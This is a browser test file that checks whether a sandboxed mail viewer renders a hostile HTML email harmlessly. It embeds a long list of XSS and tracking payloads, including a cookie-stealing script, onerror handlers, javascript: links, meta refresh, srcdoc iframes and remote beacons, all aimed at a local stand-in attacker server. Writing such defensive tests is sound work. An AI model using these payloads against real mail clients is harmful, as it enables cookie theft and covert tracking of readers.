import { createServer, type Server } from "node:net";
import type { AddressInfo } from "node:net";
import { inChromium } from "../../support/in-chromium";
import { OpenedPage } from "../../support/opened-page";

jest.setTimeout(90_000);

inChromium("a hostile mail", () => {
  let opened: OpenedPage;
  /** Where the mail wants to load from and to send to; a connection alone would tell that the mail was read. */
  let attacker: { readonly url: string; readonly heard: string[]; readonly server: Server };
  beforeAll(async () => {
    opened = await OpenedPage.start();
    const heard: string[] = [];
    const server = createServer((socket) => {
      heard.push("connected");
      socket.on("error", () => undefined).on("data", (data) => void heard.push(data.toString()));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    attacker = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard, server };
  });
  afterAll(async () => {
    await opened.close();
    await new Promise((resolve) => attacker.server.close(resolve));
  });
  beforeEach(() => {
    opened.world.sandbox.inbox.clear();
    attacker.heard.length = 0;
  });
  afterEach(() => opened.closePages());

  const html = () => {
    const { url } = attacker;
    return `<!doctype html><html><head>
      <base href="${url}/" target="_top">
      <meta http-equiv="refresh" content="0; url=${url}/refresh">
      <link rel="stylesheet" href="${url}/style.css">
      <link rel="preload" as="image" href="${url}/preload.png">
      <link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}"><link rel="prefetch" href="${url}/next">
      <style>@import url(${url}/import.css); @font-face { font-family: x; src: url(${url}/font) } body { background: url(${url}/bg.png); font-family: x }</style>
      <script>top.stolen = document.cookie; fetch("${url}/script")</script>
      <script src="${url}/script.js"></script></head>
      <body onload="top.stolen = 1">
      <p id="content">Dear colleague</p>
      <img src="${url}/pixel.png" onerror="top.stolen = 1"><img src=x onerror="parent.stolen = 1">
      <svg onload="top.stolen = 1"><image href="${url}/svg.png"/></svg>
      <iframe src="${url}/frame"></iframe><IFRAME/src="${url}/frame"></IFRAME>
      <iframe srcdoc="&lt;link rel=preconnect href='${url}'>&lt;iframe src='${url}/inner'>"></iframe>
      <svg><LINK xmlns="http://www.w3.org/1999/xhtml" rel=preconnect href="${url}"></svg>
      <iframe srcdoc="<script>top.stolen = 1</script>"></iframe>
      <object data="${url}/object"></object><embed src="${url}/embed">
      <video src="${url}/video" autoplay></video><audio src="${url}/audio" autoplay></audio>
      <form id="form" action="/_sandbox/intervene/ovh/disable-vrops" method="post"><button id="send">Send</button></form>
      <a id="script" href="javascript:top.stolen = 1">script</a>
      <a id="top" href="${url}/top" target="_top">top</a>
      <a id="blank" href="${url}/blank" target="_blank">blank</a>
      <a id="self" href="${url}/self" target="_self">self</a>
      <a id="ping" href="#content" ping="${url}/ping">ping</a>
      </body></html>`;
  };

  it("runs nothing, loads nothing, sends nothing and leaves the page where it is, also when it is clicked", async () => {
    const { sandbox } = opened.world;
    await opened.world.send({ subject: "<img src=x onerror=stolen=1>", html: html(), text: "<b>text</b>" });
    const page = await opened.open(`#/inbox/${sandbox.inbox.span.last}`);
    await page.until("the frame", `() => document.querySelector("#inbox iframe") !== null`);
    const mail = await eventually(() => page.frames[0]);
    await mail.sees("Dear colleague");

    // Longer than the refresh and any load would take.
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    expect(attacker.heard).toEqual([]);

    for (const id of ["script", "ping", "top", "blank", "send", "self"]) {
      await page.clickInFrame(mail, "#inbox iframe", `#${id}`);
    }
    await new Promise((resolve) => setTimeout(resolve, 1_000));

    // The browser may connect when a link is clicked, before it finds that it must not follow it. It says nothing there.
    expect(attacker.heard.filter((one) => one !== "connected")).toEqual([]);
    expect(await page.run(`() => [typeof window.stolen, location.pathname]`)).toEqual(["undefined", "/"]);
    const targets = (await page.send("Target.getTargets")) as { targetInfos: { type: string; url: string }[] };
    // No window of its own; the frame itself may end at the browser's page that says the address is blocked.
    const windows = targets.targetInfos.filter(({ type }) => type === "page").map(({ url }) => url);
    expect(windows.filter((url) => url.startsWith(attacker.url))).toEqual([]);
    expect(sandbox.requests.list().filter(({ path }) => path.includes("intervene"))).toEqual([]);
    expect(JSON.stringify(sandbox.state().systems["ovh"])).toContain('"vrops":"enabled"');
    // The page around it shows names and texts as they were written, not as markup.
    expect(await page.text("#inbox h2[tabindex]")).toBe("<img src=x onerror=stolen=1>");
    expect(await page.run(`() => document.querySelectorAll("#inbox img, #inbox b").length`)).toBe(0);
  });

  it("is as harmless opened by its own address", async () => {
    const { sandbox } = opened.world;
    await opened.world.send({ subject: "hostile", html: html() });
    const page = await opened.open();
    await page.go(`${sandbox.url}/_sandbox/messages/${sandbox.inbox.span.last}/html`);
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    expect(attacker.heard).toEqual([]);
    expect(await page.run(`() => [document.body.innerText.includes("Dear colleague"), window.origin]`)).toEqual([
      true,
      "null",
    ]);
    const raw = await fetch(`${sandbox.url}/_sandbox/messages/${sandbox.inbox.span.last}/raw`);
    expect(raw.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(raw.headers.get("x-content-type-options")).toBe("nosniff");
    expect(raw.headers.get("content-security-policy")).toContain("sandbox;");
  });

  it("may be styled and hold pictures of its own, which is all it needs to be read", async () => {
    const dot = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
    await opened.world.send({
      subject: "styled",
      html: '<style>p { color: rgb(1, 2, 3) }</style><p>styled <img src="cid:dot"></p>',
      attachments: [{ filename: "dot.gif", cid: "dot", content: Buffer.from(dot, "base64"), contentType: "image/gif" }],
    });
    const page = await opened.open();
    await page.go(`${opened.world.sandbox.url}/_sandbox/messages/${opened.world.sandbox.inbox.span.last}/html`);
    expect(
      await page.run(
        `() => [getComputedStyle(document.querySelector("p")).color, document.querySelector("img").naturalWidth]`,
      ),
    ).toEqual(["rgb(1, 2, 3)", 1]);
  });
});

async function eventually<T>(ask: () => T | undefined): Promise<T> {
  for (;;) {
    const answer = ask();
    if (answer !== undefined) return answer;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
